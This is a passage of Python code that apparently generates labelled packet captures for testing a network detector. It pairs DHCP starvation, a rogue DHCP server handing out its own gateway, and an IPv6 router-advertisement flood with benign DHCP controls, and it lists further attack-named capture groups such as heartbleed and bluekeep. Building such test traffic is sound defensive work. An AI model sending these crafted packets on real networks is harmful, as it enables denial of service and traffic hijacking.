    cap = Capture("dhcp-starvation", "ever new clients")
    for i in range(60):
        asked(cap, net.mac("02:00:5e:10:00:%02x" % i), "192.168.7.%d" % (100 + i), 5000)
    yield cap
    for name, about, router in (("dhcp-second-server", "two servers answer, each with a router of its own", LIAR),
                                ("plain-dhcp-pair", "two servers answer alike", ROUTER)):
        cap = Capture(name, about)
        lease = Udp("0.0.0.0", 68, "255.255.255.255", 67)
        asked(cap, VICTIM_MAC, VICTIM, 1000)
        for server, server_mac, address, gateway in ((ROUTER, ROUTER_MAC, VICTIM, ROUTER),
                                                     (LIAR, LIAR_MAC, "192.168.7.200", router)):
            offer = lan.dhcp(2, 7, VICTIM_MAC, [(53, b"\x02"), (3, net.addr(gateway)), (6, net.addr(gateway))],
                             yiaddr=address)
            answer = Udp(address, 68, server, 67)
            cap.add(eth(answer.send(offer, True).packet, src=server_mac, dst=VICTIM_MAC), answer, True, gap_us=1000)
        yield cap
    cap = Capture("router-flood", "sixty routers of IPv6, all at once")
    for i in range(60):
        flow = Flow(net.ICMP6, "fe80::%x" % (i + 0x100), None, "ff02::1", None, icmp="134/0")
        advert = icmp6(flow.src, flow.dst, 134, 0, bytes.fromhex("40000708"), b"\0" * 8)
        cap.add(eth(flow.ip(advert, hops=255).packet, src=net.mac("02:00:5e:10:01:%02x" % i)), flow, gap_us=1000)
    yield cap
    lease = Udp("0.0.0.0", 68, "255.255.255.255", 67)
    cap = Capture("plain-dhcp", "the clients of a morning")
    for i in range(60):
        asked(cap, net.mac("3c:52:82:00:01:%02x" % i), "192.168.7.%d" % (100 + i), 7000000)
        asked(cap, net.mac("3c:52:82:00:01:%02x" % i), "192.168.7.%d" % (100 + i), 7000000)
    yield cap


def captures():
    for group in (injection, two_synacks, heartbleed, smbghost, ms17_010, sigred, certificates, poisoned,
                  arp_scan, shells, bluekeep, stealth, poisoned_names, guesses, answers,
                  broken_fragments, java_by_ldap, leases):
        yield from group()
